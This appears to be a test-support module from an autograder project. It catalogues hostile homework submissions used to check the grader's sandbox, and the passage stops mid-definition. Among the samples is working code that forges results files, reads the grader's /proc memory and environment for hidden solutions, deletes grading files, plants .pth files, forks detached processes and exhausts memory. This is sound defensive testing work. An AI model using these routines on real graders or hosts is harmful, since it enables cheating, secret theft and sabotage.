"""A catalogue of hostile submissions, each a whole ``backprop.py`` (or ``.ipynb``).

An attack is the reference solution with something hostile added: an endless loop, a memory
bomb, an exit, a flood of output, a forged results file, patched numpy or builtins, a
returned object that lies about itself, a hunt for the hidden tests and the reference, a
network connection, a fork storm, vandalised files, a correct but slow function. The tests
(tests/test_adversarial.py) grade each one and check that the grader returns, that the
hostile functions get no more than they earned, that everything else keeps full marks, that
the report says what happened and leaks nothing, and that the machine is left as it was.
tools/classgen.py mixes these attacks into generated classes.

Every attack starts from ``base(reference)``: the reference without its ``# BEGIN SOLUTION`` /
``# END SOLUTION`` lines and with a differently written, equally correct sigmoid, so that no
line of the reference's solution text is in the submission itself. Whatever reference text
turns up in a report must then have come from somewhere else.

Fields of an Attack:

* ``attacked``: functions whose code is hostile or broken (they may lose points);
  ``also``: their callers (tools.mutants.CALLERS), which may lose points too. Every other
  function must keep full marks.
* ``honest``: function -> the largest share of its points it may get (0.0: none; WRONG_VALUE
  for a function none of whose values is right; WRONG_DTYPE for right values in a wrong
  dtype).
* ``says``: substrings the report (findings, load problems, fatal) must contain.
* ``mistakes``: function -> mistake ids the report must name; ``only_fails``: function -> the
  checks that must fail while every other check of that function passes.
* ``modes``: the isolation modes (autograder.sandbox.isolation_mode) in which the README
  promises to contain the attack; elsewhere the tests skip it. Hunting for files, the
  network and vandalism are contained only with namespaces ("root", "userns"); processes
  that leave their process group are killed only with a dedicated uid ("root").
* ``slow``: the grading waits for a time limit. ``not_in_classes`` (read by
  tools/classgen.py): generated classes leave the attack out, because its score depends on
  timing (a correct function close to the time limit, a timer), or because, where the grader
  runs without namespaces, it would really write or delete files outside its sandbox.

Time limits are per call: ``call_seconds`` bounds one call of one student function (a
function called on five cases gets five separate allowances), ``import_seconds`` bounds each
top-level statement that is run, and ``total_seconds`` bounds the whole submission, restarts
included. A function that burns 1 s per call passes with ``call_seconds=2``; one that burns 3 s
fails every call, however many calls it gets.

Markers: every file an attack creates and every process it starts carries MARKER in its
name or command line, so a test can look for leftovers. The network attacks connect to
127.0.0.1:LOOPBACK_PORT (and the abstract unix socket ABSTRACT_SOCKET) and nowhere else.
"""

import textwrap
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable

from tools.mutants import CALLERS, NAMES, REFERENCE_PATH, Mutant, apply, load

ROOT = Path(__file__).resolve().parent.parent
MARKER = "zqadv7"  # in the names of files and processes the attacks create
LOOPBACK_PORT = 48613  # TCP and UDP on 127.0.0.1 only
ABSTRACT_SOCKET = f"\0{MARKER}-abstract"
FORGED_SCORE = {"score": 100, "tests": [], "output": f"forged by {MARKER}"}

ALL_MODES = frozenset({"root", "userns", "none"})
NAMESPACES = frozenset({"root", "userns"})  # grader's files hidden, no network
DEDICATED_UID = frozenset({"root"})  # every process of the worker's uid killed afterwards
ALL = frozenset(NAMES)

WRONG_VALUE = 0.7  # every value wrong: at least the value check (weight 0.3 of 1.0) is lost
WRONG_DTYPE = 0.95  # right values in the wrong dtype: at least the dtype check is lost


@dataclass(frozen=True)
class Attack:
    id: str
    description: str
    build: Callable[[str], tuple]  # reference source -> (file text, ".py" or ".ipynb")
    attacked: frozenset = frozenset()
    also: frozenset = frozenset()
    honest: dict = field(default_factory=dict)
    says: tuple = ()
    slow: bool = False
    not_in_classes: bool = False
    modes: frozenset = ALL_MODES
    mistakes: dict = field(default_factory=dict)
    only_fails: dict = field(default_factory=dict)


def callers_of(functions):
    out = set()
    for name in functions:
        out |= CALLERS.get(name, frozenset())
    return frozenset(out - set(functions))


def _attack(id, description, build, attacked=(), honest=None, **kw):
    attacked = frozenset(attacked)
    also = kw.pop("also", None)
    return Attack(
        id=id,
        description=description,
        build=build,
        attacked=attacked,
        also=callers_of(attacked) if also is None else frozenset(also),
        honest=dict(honest or {}),
        **kw,
    )


# --- building submissions ---------------------------------------------------------------------

STABLE_SIGMOID = """
def sigmoid(Z):
    \"\"\"Logistic function, elementwise, written with tanh (no overflow for large |Z|).\"\"\"
    return 0.5 * (1.0 + np.tanh(0.5 * np.asarray(Z, dtype=np.float64)))
"""


def base(reference):
    """The reference without its solution markers and with another correct sigmoid."""
    markers = ("# BEGIN SOLUTION", "# END SOLUTION", "# <!-- BEGIN SOLUTION -->", "# <!-- END SOLUTION -->")  # code and markdown
    lines = [line for line in reference.splitlines(keepends=True) if line.strip() not in markers]
    return replace("".join(lines), sigmoid=STABLE_SIGMOID)


def replace(source, **functions):
    """``source`` with each named top-level function replaced by the given source."""
    mutants = [Mutant(f"adversarial-{name}", name, textwrap.dedent(code).strip("\n") + "\n", None) for name, code in functions.items()]
    return apply(source, mutants)


def after_imports(source, code):
    """``source`` with ``code`` inserted right after its ``import numpy as np`` line."""
    anchor = "import numpy as np\n"
    if anchor not in source:
        raise ValueError("the reference has no `import numpy as np` line")
    return source.replace(anchor, anchor + "\n" + textwrap.dedent(code).strip("\n") + "\n\n", 1)


def appended(source, code):
    return source.rstrip("\n") + "\n\n\n" + textwrap.dedent(code).strip("\n") + "\n"


def py(functions=None, prelude=None, tail=None):
    """A builder: base(reference), then ``functions`` replaced, ``prelude`` after the imports
    and ``tail`` at the end."""

    def build(reference):
        source = base(reference)
        if functions:
            source = replace(source, **functions)
        if prelude:
            source = after_imports(source, prelude)
        if tail:
            source = appended(source, tail)
        return source, ".py"

    return build


def notebook(cell, functions=None, position=2):
    """A builder of a .ipynb: the (base) reference's cells with ``cell`` inserted as a code cell."""

    def build(reference):
        import jupytext
        import nbformat

        source = base(reference)
        if functions:
            source = replace(source, **functions)
        nb = jupytext.reads(source, fmt="py:percent")
        code_cells = [i for i, c in enumerate(nb.cells) if c.cell_type == "code"]
        at = code_cells[min(position, len(code_cells) - 1)]
        nb.cells.insert(at, nbformat.v4.new_code_cell(textwrap.dedent(cell).strip("\n")))
        return nbformat.writes(nb), ".ipynb"

    return build


def write(attack, folder, reference_source=None):
    """Write the attack's submission as ``folder/backprop.py`` (or .ipynb); returns its path."""
    reference_source = reference_source if reference_source is not None else REFERENCE_PATH.read_text()
    text, suffix = attack.build(reference_source)
    folder = Path(folder)
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / f"backprop{suffix}"
    path.write_text(text)
    return path


def at_import(body, name="_Hostile"):
    """A class whose body runs ``body`` when the submission's definitions are run (the
    grader runs class bodies, decorators and default values; it skips top-level loops)."""
    return f"class {name}:\n" + textwrap.indent(textwrap.dedent(body).strip("\n"), "    ") + "\n"


# --- reference function bodies, reused by hostile variants ---------------------------------

CORRECT = {
    "d_softmax": "out = Y_hat - Y",
    "softmax_jacobian": "s = softmax(z.reshape(1, -1))[0]\nout = np.diag(s) - np.outer(s, s)",
    "cross_entropy": "out = float(-np.sum(Y * np.log(Y_hat)) / Y.shape[0])",
    "dJ_dZ2": "out = (Y_hat - Y) / Y.shape[0]",
    "dJ_dW2": "out = X2.T @ dZ2",
    "dJ_db2": "out = np.sum(dZ2, axis=0, keepdims=True)",
    "dJ_dX2": "out = dZ2 @ W2.T",
    "dJ_dW1": "out = X.T @ dZ1",
    "dJ_db1": "out = np.sum(dZ1, axis=0, keepdims=True)",
    "relative_error": (
        "a = np.asarray(a, dtype=np.float64).ravel()\n"
        "b = np.asarray(b, dtype=np.float64).ravel()\n"
        "d = np.linalg.norm(a) + np.linalg.norm(b)\n"
        "out = 0.0 if d == 0.0 else float(np.linalg.norm(a - b) / d)"
    ),
    "cost_n": (
        "if Y_hat.shape[1] == 1:\n"
        "    out = float(-np.mean(Y * np.log(Y_hat) + (1 - Y) * np.log(1 - Y_hat)))\n"
        "else:\n"
        "    out = float(-np.sum(Y * np.log(Y_hat)) / Y.shape[0])"
    ),
    "update": "out = {k: params[k] - learning_rate * grads[k] for k in params}",
    "predict": (
        "Y_hat, _ = forward_n(X, params)\n"
        "out = (Y_hat[:, 0] > 0.5).astype(np.int64) if Y_hat.shape[1] == 1 else np.argmax(Y_hat, axis=1).astype(np.int64)"
    ),
}
SIGNATURES = {name: f"{name}({', '.join(load().function(name).params)})" for name in CORRECT}


def hostile(name, before="", after="return out"):
    """Source of contract function ``name``: ``before`` (the hostile code), the correct
    computation of ``out``, then ``after``."""
    body = [textwrap.dedent(before).strip("\n")] if before else []
    body.append(CORRECT[name])
    if after:
        body.append(textwrap.dedent(after).strip("\n"))
    return f"def {SIGNATURES[name]}:\n" + textwrap.indent("\n".join(body), "    ") + "\n"


def stub(name):
    """The release's kind of stub for ``name``."""
    return f"def {SIGNATURES[name]}:\n    raise NotImplementedError\n"


# --- hostile helpers pasted into submissions --------------------------------------------------

FORGE = f'''
def _forge_results():
    """Write a perfect results.json wherever a grader might read one."""
    import json, os, sys
    text = json.dumps({FORGED_SCORE!r})
    folders = set()
    here = os.getcwd()
    while True:
        folders.add(here)
        if here == os.path.dirname(here):
            break
        here = os.path.dirname(here)
    folders |= {{"/autograder/results", "/autograder", "/autograder/submission", "/tmp", "/results"}}
    roots = [os.environ.get("AUTOGRADER_ROOT", "")]
    try:
        with open(f"/proc/{{os.getppid()}}/environ", "rb") as handle:
            for item in handle.read().split(b"\\0"):
                if item.startswith(b"AUTOGRADER_ROOT="):
                    roots.append(item.split(b"=", 1)[1].decode())
    except OSError:
        pass
    for link in ("cwd", "root"):
        try:
            folders.add(os.readlink(f"/proc/{{os.getppid()}}/{{link}}"))
        except OSError:
            pass
    try:
        with open(f"/proc/{{os.getppid()}}/cmdline", "rb") as handle:
            for arg in handle.read().split(b"\\0"):
                arg = arg.decode(errors="replace")
                if arg.startswith("/"):
                    folders.add(os.path.dirname(arg))
    except OSError:
        pass
    folders.add(os.path.dirname(sys.prefix))
    for root in roots:
        if root:
            folders |= {{root, root + "/results"}}
    written = []
    for folder in sorted(folders):
        for name in ("results.json", "results/results.json"):
            try:
                with open(os.path.join(folder, name), "w") as handle:
                    handle.write(text)
                written.append(os.path.join(folder, name))
            except OSError:
                pass
    return written
'''

HUNT = '''
def _hunt(budget=0.8, walk=True):
    \"\"\"Everything this process can find that looks like the grader's: one string to leak,
    secrets first, then what was tried and refused.\"\"\"
    import errno, gc, os, sys, time
    deadline = time.monotonic() + budget
    words = ("SOLUTION", "seeds =", "[hidden]", "positive]", "exp_z", "grading.toml")
    secrets, refused, places = [], [], []
    own = ""
    mine = sys._getframe().f_code.co_filename  # the submission's own frames are not loot
    frame = sys._getframe()
    while frame is not None:
        lines = getattr(frame.f_locals.get("self"), "source_lines", None)
        if isinstance(lines, list):
            own = "\\\\n".join(lines)
        frame = frame.f_back

    def look(text, where):
        if not isinstance(text, str) or not text or text in own:
            return
        for word in words:
            at = text.find(word)
            if at >= 0:
                secrets.append(f"{where}: {text[max(0, at - 120):at + 300]}")
                return

    def read(path, limit=1 << 20):
        try:
            with open(path, "rb") as handle:
                return handle.read(limit).decode("latin-1").replace("\\\\0", " ")
        except (OSError, ValueError) as err:
            code = getattr(err, "errno", None)
            if code not in (None, errno.ENOENT, errno.ENOTDIR):
                refused.append(f"{path} ({errno.errorcode.get(code, code)})")
            return None

    # the grader's process, through /proc
    ppid = os.getppid()
    for name in ("environ", "cmdline", "cwd/solutions/grading.toml", "cwd/solutions/backprop.py", "cwd/solutions/backprop/grading.toml", "cwd/solutions/backprop/backprop.py", "root/autograder/source/solutions/grading.toml", "root/autograder/source/solutions/backprop/grading.toml", "maps"):
        look(read(f"/proc/{ppid}/{name}"), f"/proc/ppid/{name}")
    try:
        for fd in os.listdir(f"/proc/{ppid}/fd"):
            look(read(f"/proc/{ppid}/fd/{fd}"), f"/proc/ppid/fd/{fd}")
    except OSError as err:
        refused.append(f"/proc/ppid/fd ({errno.errorcode.get(err.errno)})")
    try:
        regions = read(f"/proc/{ppid}/maps") or ""
        with open(f"/proc/{ppid}/mem", "rb") as memory:
            for line in regions.splitlines():
                if time.monotonic() > deadline:
                    break
                span, perms = line.split()[:2]
                low, high = (int(x, 16) for x in span.split("-"))
                if "r" not in perms or high - low > (64 << 20):
                    continue
                try:
                    memory.seek(low)
                    chunk = memory.read(high - low)
                except (OSError, ValueError, OverflowError):
                    continue
                at = chunk.find(b"SOLUTION")
                if at >= 0:
                    secrets.append("/proc/ppid/mem: " + chunk[max(0, at - 120):at + 300].decode("latin-1"))
                    break
    except OSError as err:
        refused.append(f"/proc/ppid/mem ({errno.errorcode.get(err.errno)})")
    # likely places of the course: the container layout, the venv's parent, editable installs
    roots = {os.getcwd(), "/autograder/source", "/autograder", os.path.dirname(sys.prefix), os.path.dirname(sys.base_prefix)}
    for arg in (read(f"/proc/{ppid}/cmdline") or "").split(" "):
        if arg.startswith("/"):
            roots |= {arg, os.path.dirname(arg)}
    for folder in sys.path:
        try:
            for name in os.listdir(folder):
                if name.endswith(".pth"):
                    for line in (read(os.path.join(folder, name)) or "").splitlines():
                        if line.startswith("/"):
                            roots.add(line.strip())
        except OSError:
            pass
    places.append("roots " + ",".join(sorted(roots)))
    for root in sorted(roots):
        here = root
        for _ in range(6):
            for name in ("solutions/backprop/backprop.py", "solutions/backprop/grading.toml", "source/solutions/backprop/backprop.py", "source/solutions/backprop/grading.toml", "solutions/backprop.py", "solutions/grading.toml", "backprop.py", "grading.toml"):
                look(read(os.path.join(here, name)), os.path.join(here, name))
            here = os.path.dirname(here)
    # a bounded walk of the file system
    if walk:
        skip = {"proc", "sys", "dev", "usr", "lib", "lib64", "bin", "sbin", "boot", "etc", "site-packages", "node_modules", "__pycache__", ".git"}
        walked = 0
        for top in ("/autograder", "/work", "/home", "/srv", "/opt", "/mnt", "/tmp", "/var/tmp", "/dev/shm", "/run", "/root", "/"):
            for folder, subfolders, files in os.walk(top):
                if time.monotonic() > deadline:
                    break
                walked += 1
                subfolders[:] = [d for d in subfolders if d not in skip]
                for name in files:
                    if name in ("backprop.py", "grading.toml", "backprop.ipynb") or name.endswith(".plan"):
                        places.append(os.path.join(folder, name))
                        look(read(os.path.join(folder, name)), os.path.join(folder, name))
        places.append(f"walked {walked} folders")
    # this process: the worker's frames and every string it holds
    frame = sys._getframe()
    while frame is not None:
        if frame.f_code.co_filename != mine:
            for key, value in list(frame.f_locals.items()):
                try:
                    look(repr(value)[:100000], f"frame {frame.f_code.co_name}.{key}")
                except Exception:
                    pass
        frame = frame.f_back
    for obj in gc.get_objects():
        if time.monotonic() > deadline:
            break
        if obj is secrets or obj is refused or obj is places:
            continue
        items = obj.values() if type(obj) is dict else obj if type(obj) in (list, tuple) else ()
        try:
            for item in items:
                if type(item) is str and len(item) > 20:
                    look(item, "memory")
        except Exception:
            pass
    modules = sorted(m for m in sys.modules if not m.startswith(("numpy", "_", "encodings", "importlib", "collections")))
    summary = f"refused: {refused}; places: {places}; env={dict(os.environ)}; argv={sys.argv}; modules={modules}"
    return "LOOT " + " | ".join(secrets + [summary])
'''

VANDAL = f'''
def _vandalize(tag):
    """Create, change and delete files wherever the grader keeps its own."""
    import os, sys
    marker = "{MARKER}-" + tag
    touched = []
    courses = {{os.path.dirname(sys.prefix), os.path.dirname(sys.base_prefix), "/autograder/source", "/autograder"}}
    for folder in sys.path:
        try:
            for name in os.listdir(folder):
                if name.endswith(".pth"):
                    with open(os.path.join(folder, name)) as handle:
                        courses |= {{line.strip() for line in handle if line.startswith("/")}}
        except OSError:
            pass
    folders = {{os.getcwd(), "/tmp", "/autograder/results", "/autograder/submission"}} | courses
    for course in courses:
        folders |= {{os.path.join(course, "solutions"), os.path.join(course, "autograder"), os.path.join(course, "tests")}}
    try:
        with open(f"/proc/{{os.getppid()}}/cmdline", "rb") as handle:
            folders |= {{os.path.dirname(a.decode()) for a in handle.read().split(b"\\0") if a.startswith(b"/")}}
    except OSError:
        pass
    for folder in sorted(folders):
        path = os.path.join(folder, marker + ".txt")
        try:
            with open(path, "w") as handle:
                handle.write("written by a submission")
            touched.append(path)
        except OSError:
            pass
    for course in sorted(courses):
        for name in ("solutions/backprop/grading.toml", "solutions/backprop/backprop.py", "solutions/grading.toml", "solutions/backprop.py"):
            path = os.path.join(course, name)
            try:
                with open(path, "a") as handle:
                    handle.write("\\n# " + marker + "\\n")
                touched.append("appended " + path)
            except OSError:
                pass
        try:
            os.unlink(os.path.join(course, "solutions", "backprop", "grading.toml"))
            touched.append("deleted grading.toml in " + course)
        except OSError:
            pass
    for folder in sys.path:
        if folder.endswith("site-packages"):
            try:
                with open(os.path.join(folder, marker + ".pth"), "w") as handle:
                    handle.write("# a .pth file runs its import lines in every Python that starts\\n")
                touched.append("planted " + folder)
            except OSError:
                pass
    for name in os.listdir("."):  # the working folder: remove what looks like results or submissions
        if "results" in name or "backprop" in name or marker in name:
            try:
                os.remove(name)
            except OSError:
                pass
    return touched
'''

SPAWN = f'''
def _spawn(tag, count=3):
    """Start processes that outlive the call: detached sleepers and a shell."""
    import subprocess, sys
    if getattr(_spawn, "done", False):  # once per worker process
        return 0
    _spawn.done = True
    started = 0
    sleeper = "import time; time.sleep(30)"
    for _ in range(count):
        try:
            subprocess.Popen([sys.executable, "-c", sleeper, "{MARKER}-" + tag], start_new_session=True,
                             stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
            started += 1
        except OSError:
            pass
    try:  # double fork through a shell: the sleeper is re-parented and in no group of ours
        subprocess.Popen(["/bin/sh", "-c", f"{{sys.executable}} -c '{{sleeper}}' {MARKER}-{{tag}}-orphan &"],
                         stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL).wait(timeout=1)
    except (OSError, subprocess.TimeoutExpired):
        pass
    for command in (["sudo", "-n", "true"], ["su", "-c", "true"], ["ip", "link", "set", "lo", "up"], ["cat", "/autograder/source/solutions/backprop/grading.toml"]):
        try:
            subprocess.run(command, capture_output=True, timeout=1)
        except (OSError, subprocess.SubprocessError):
            pass
    return started
'''

FORK = f'''
def _fork_storm(tag, count=200):
    """Try ``count`` forks (no child forks again); each child names itself and sleeps 30 s."""
    import ctypes, os, time
    if getattr(_fork_storm, "done", False):  # once per worker process
        return 0
    _fork_storm.done = True
    made = 0
    for _ in range(count):
        try:
            pid = os.fork()
        except OSError:
            continue
        if pid == 0:
            try:
                ctypes.CDLL(None).prctl(15, ("{MARKER}" + tag)[:15].encode(), 0, 0, 0)
                time.sleep(30)
            finally:
                os._exit(0)
        made += 1
    return made
'''

NETWORK = f'''
def _phone_home():
    """Try to reach a server on this machine's loopback: TCP, UDP, an abstract unix socket."""
    import socket
    reached = []
    try:
        with socket.create_connection(("127.0.0.1", {LOOPBACK_PORT}), timeout=0.5) as s:
            s.sendall(b"{MARKER} tcp")
            reached.append("tcp")
    except OSError:
        pass
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.sendto(b"{MARKER} udp", ("127.0.0.1", {LOOPBACK_PORT}))
            reached.append("udp sent")
    except OSError:
        pass
    try:
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
            s.settimeout(0.5)
            s.connect({ABSTRACT_SOCKET!r})
            s.sendall(b"{MARKER} unix")
            reached.append("unix")
    except OSError:
        pass
    return reached
'''

WORLD_WRITABLE = f'''
def _leave_files(tag):
    """Leave files in the machine's shared, world-writable folders."""
    import os
    left = []
    for folder in ("/dev/shm", "/var/tmp", "/run/lock", "/dev/mqueue", "/tmp"):
        path = os.path.join(folder, "{MARKER}-" + tag)
        try:
            with open(path, "w") as handle:
                handle.write("left behind by a submission")
            left.append(path)
        except OSError:
            pass
    return left
'''


def frame(header, blobs=b""):
    """Python source that builds one protocol frame (see autograder/wire.py) from ``header``."""
    return (
        "import json, struct\n"
        f"_head = json.dumps({header!r}).encode()\n"
        f"_body = struct.pack('>I', len(_head)) + _head + {blobs!r}\n"
        "_frame = struct.pack('>Q', len(_body)) + _body\n"
    )


# --- the catalogue ------------------------------------------------------------------------------

_LOOPS = [
    _attack(
        "loop-in-function", "relative_error never returns (a Python `while True`)",
        py(functions={"relative_error": "def relative_error(a, b):\n    while True:\n        pass\n"}),
        attacked={"relative_error"}, honest={"relative_error": 0.0}, says=("time limit",), slow=True,
        mistakes={"relative_error": {"timeout"}},
    ),
    _attack(
        "loop-in-function-in-c", "d_softmax loops inside one C call (sum of an endless iterator), deaf to Python signals",
        py(functions={"d_softmax": "def d_softmax(Y_hat, Y):\n    return Y_hat - Y + sum(iter(int, 1))\n"}),
        attacked={"d_softmax"}, honest={"d_softmax": 0.0}, says=("time limit",), slow=True,
    ),
    _attack(
        "loop-at-import-class-body", "a class body that loops forever",
        py(tail=at_import("while True:\n    pass", "_Spin")),
        says=("did not finish",), slow=True,
    ),
    _attack(
        "loop-at-import-decorator", "a decorator that loops forever when the function is defined",
        py(tail="def _stall(function):\n    while True:\n        pass\n\n\n@_stall\ndef helper():\n    return 1\n"),
        says=("did not finish",), slow=True,
    ),
    _attack(
        "loop-at-import-default-argument", "a default argument value that never finishes computing (in C)",
        py(tail="def helper(x=sum(iter(int, 1))):\n    return x\n"),
        says=("did not finish",), slow=True,
    ),
    _attack(
        "sleep-at-import", "a class body that sleeps for an hour (no CPU used)",
        py(tail=at_import("import time\ntime.sleep(3600)", "_Nap")),
        says=("did not finish",), slow=True,
    ),
    _attack(
        "loop-in-notebook-cell", "a notebook cell whose class body loops forever",
        notebook("class Spin:\n    while True:\n        pass\n"),
        says=("did not finish", "cell "), slow=True,
    ),
]

_MEMORY = [
    _attack(
        "memory-bomb-in-function", "dJ_db1 allocates a 40 GB array",
        py(functions={"dJ_db1": "def dJ_db1(dZ1):\n    hoard = np.ones(5_000_000_000)\n    return np.sum(dZ1, axis=0, keepdims=True) + hoard[0] - 1\n"}),
        attacked={"dJ_db1"}, honest={"dJ_db1": 0.0}, says=("MemoryError",),
    ),
    _attack(
        "memory-bomb-growing-in-function", "dJ_dX2 keeps adding 100 MB arrays until something gives",
        py(functions={"dJ_dX2": "def dJ_dX2(dZ2, W2):\n    hoard = []\n    while True:\n        hoard.append(np.empty(100 << 17))\n"}),
        attacked={"dJ_dX2"}, honest={"dJ_dX2": 0.0}, says=("MemoryError",),
    ),
    _attack(
        "memory-bomb-at-import", "a class body that allocates a 40 GB array",
        py(tail=at_import("hoard = np.ones(5_000_000_000)", "_Hog")),
        says=("MemoryError",),
    ),
]

_EXITS = []
for _kind, _stmt, _said, _fn in (
    ("os-exit", "import os\nos._exit(0)", "exited with code 0", "d_softmax"),
    ("sys-exit", "import sys\nsys.exit()", "SystemExit", "softmax_jacobian"),
    ("raise-systemexit", "raise SystemExit(3)", "SystemExit", "dJ_db2"),
    ("keyboardinterrupt", "raise KeyboardInterrupt", "KeyboardInterrupt", "dJ_dW2"),
    ("baseexception", "raise BaseException('stop grading')", "BaseException", "dJ_dW1"),
    ("segfault", "import ctypes\nctypes.string_at(0)", "SIGSEGV", "dJ_dZ2"),
    ("sigkill-self", "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)", "SIGKILL", "dJ_db1"),
):
    _EXITS.append(
        _attack(
            f"{_kind}-in-function", f"{_fn} runs `{_stmt.splitlines()[-1]}`",
            py(functions={_fn: hostile(_fn, before=_stmt)}),
            attacked={_fn}, honest={_fn: 0.0}, says=(_said,),
        )
    )
    _EXITS.append(
        _attack(
            f"{_kind}-at-import", f"a class body runs `{_stmt.splitlines()[-1]}`",
            py(tail=at_import(_stmt, "_Quit")),
            says=(_said,),
        )
    )
_EXITS += [
    _attack(
        "sigint-from-a-timer", "a thread started at import sends the worker SIGINT every 0.1 s, whatever it is doing",
        py(tail=at_import(
            "import os, signal, threading, time\n"
            "signal.signal(signal.SIGINT, signal.default_int_handler)  # even if the grader's parent ignored SIGINT\n\n"
            "def _interrupt():\n    import os, signal, time\n    while True:\n        time.sleep(0.1)\n        os.kill(os.getpid(), signal.SIGINT)\n\n"
            "threading.Thread(target=_interrupt, daemon=True).start()", "_Timer")),
        attacked=ALL, also=frozenset(), not_in_classes=True,
    ),
    _attack(
        "signal-the-grader", "cost_n and a class body send SIGWINCH (harmless if it arrives) to the grader and its group",
        py(
            functions={"cost_n": hostile("cost_n", before=(
                "import os, signal\nfor send in (lambda: os.kill(os.getppid(), signal.SIGWINCH), lambda: os.killpg(os.getpgid(os.getppid()), signal.SIGWINCH)):\n"
                "    try:\n        send()\n    except OSError:\n        pass"))},
            tail=at_import("import os, signal\ntry:\n    os.kill(os.getppid(), signal.SIGWINCH)\nexcept OSError:\n    pass", "_Poke"),
        ),
        modes=DEDICATED_UID,
    ),
]

_FLOODS = [
    _attack(
        "print-200mb-in-function", "dJ_db2 prints 100 MB to stdout and 100 MB to stderr, then returns the right value",
        py(functions={"dJ_db2": hostile("dJ_db2", before="import sys\nprint('x' * 100_000_000)\nsys.stderr.write('y' * 100_000_000)")}),
        says=("output is not shown",),
    ),
    _attack(
        "print-200mb-at-import", "a class body prints 100 MB to stdout and 100 MB to stderr",
        py(tail=at_import("import sys\nprint('x' * 100_000_000)\nsys.stderr.write('y' * 100_000_000)", "_Loud")),
    ),
    _attack(
        "fd-write-200mb-in-function", "dJ_dW1 writes 100 MB each to file descriptors 1 and 2, then returns the right value",
        py(functions={"dJ_dW1": hostile("dJ_dW1", before="import os\nblock = b'x' * (1 << 20)\nfor fd in (1, 2):\n    for _ in range(100):\n        os.write(fd, block)")}),
    ),
    _attack(
        "fd-write-200mb-at-import", "a class body writes 100 MB each to file descriptors 1 and 2",
        py(tail=at_import("import os\nblock = b'x' * (1 << 20)\nfor fd in (1, 2):\n    for _ in range(100):\n        os.write(fd, block)", "_LoudFd")),
    ),
    _attack(
        "huge-exception-name-in-function", "d_softmax raises an exception whose class name is 5 MB long",
        py(functions={"d_softmax": hostile("d_softmax", before="raise type('E' * 5_000_000, (Exception,), {})('boom')")}),
        attacked={"d_softmax"}, honest={"d_softmax": 0.0},
    ),
    _attack(
        "huge-exception-name-at-import", "a class body raises an exception whose class name is 5 MB long",
        py(tail=at_import("raise type('E' * 5_000_000, (Exception,), {})('boom')", "_Shout")),
    ),
    _attack(
        "huge-exception-message", "dJ_dZ2 raises an exception with a 50 MB message",
        py(functions={"dJ_dZ2": hostile("dJ_dZ2", before="raise ValueError('m' * 50_000_000)")}),
        attacked={"dJ_dZ2"}, honest={"dJ_dZ2": 0.0},
    ),
    _attack(
        "huge-warning-category-name", "dJ_db1 warns with a category whose name is 5 MB long, then returns the right value",
        py(functions={"dJ_db1": hostile("dJ_db1", before="import warnings\nwarnings.warn('w', type('W' * 5_000_000, (UserWarning,), {}))")}),
    ),
]

_FORGERIES = [
    _attack(
        "forge-results-json-in-function", "softmax_jacobian writes a perfect results.json everywhere it can; predict is a stub",
        py(functions={"softmax_jacobian": hostile("softmax_jacobian", before="_forge_results()"), "predict": stub("predict")}, prelude=FORGE),
        attacked={"predict", "softmax_jacobian"}, honest={"predict": 0.0}, modes=NAMESPACES, not_in_classes=True,
    ),
    _attack(
        "forge-results-json-at-import", "a class body writes a perfect results.json everywhere it can; predict is a stub",
        py(functions={"predict": stub("predict")}, prelude=FORGE, tail=at_import("_written = _forge_results()", "_Forge")),
        attacked={"predict"}, honest={"predict": 0.0}, modes=NAMESPACES, not_in_classes=True,
    ),
    _attack(
        "forge-printed-json", "prints the grader's JSON (and writes it to fd 1) in a function and at import; predict is a stub",
        py(
            functions={
                "predict": stub("predict"),
                "dJ_dX2": hostile("dJ_dX2", before=f"import json, os\nprint(json.dumps({FORGED_SCORE!r}))\nos.write(1, json.dumps({FORGED_SCORE!r}).encode())"),
            },
            tail=at_import(f"import json, os\nprint(json.dumps({FORGED_SCORE!r}))\nos.write(1, json.dumps({FORGED_SCORE!r}).encode() + b'\\n')", "_Claim"),
        ),
        attacked={"predict"}, honest={"predict": 0.0},
    ),
    _attack(
        "forge-reply-frame-at-import", "a class body writes a well-formed but forged 'loaded' reply (no units) into the worker's reply pipe",
        py(tail=at_import(frame({"op": "loaded", "units": []}) + "import os, sys\nos.write(int(sys.argv[2]), _frame)", "_ForgeFrame")),
    ),
    _attack(
        "forge-reply-frame-in-function", "d_softmax writes a forged 'called' reply with nonsense fields into the reply pipe, then returns",
        py(functions={"d_softmax": hostile("d_softmax", before=frame({
            "op": "called", "status": "ok", "result": {"t": "float", "v": 1.0}, "args_after": [],
            "seconds": "soon", "output_chars": "many", "warnings": 7, "output": 5,
        }) + "import os, sys\nos.write(int(sys.argv[2]), _frame)")}),
        attacked={"d_softmax"},
    ),
    _attack(
        "forge-extra-reply-in-function", "d_softmax writes one extra, well-formed reply (its own right value) into the reply pipe, so every later reply answers the request before it",
        py(functions={"d_softmax": hostile("d_softmax", before=(
            "import io, os, sys, json, struct\n"
            "_buffer = io.BytesIO()\nnp.lib.format.write_array(_buffer, Y_hat - Y, allow_pickle=False)\n_blob = _buffer.getvalue()\n"
            "_head = json.dumps({'op': 'called', 'status': 'ok', 'result': {'t': 'arr', 'i': 0}, 'args_after': [], 'seconds': 0.0, 'output': '', 'output_chars': 0, 'warnings': [], 'warning_count': 0, 'blobs': [len(_blob)]}).encode()\n"
            "_body = struct.pack('>I', len(_head)) + _head + _blob\n"
            "os.write(int(sys.argv[2]), struct.pack('>Q', len(_body)) + _body)"))}),
        attacked={"d_softmax"},
    ),
    _attack(
        "forge-reply-length", "softmax_jacobian writes a frame length of 2**64 - 1 into the reply pipe",
        py(functions={"softmax_jacobian": hostile("softmax_jacobian", before="import os, sys\nos.write(int(sys.argv[2]), b'\\xff' * 8)")}),
        attacked={"softmax_jacobian"}, honest={"softmax_jacobian": 0.0},
    ),
    _attack(
        "forge-reply-by-patching-the-worker", "update replaces the worker's own `pack` (reached through sys.modules['__main__']) so that its replies carry nonsense",
        py(functions={"update": hostile("update", before=(
            "import sys\nworker = sys.modules['__main__']\nif not getattr(worker, '_patched', False):\n"
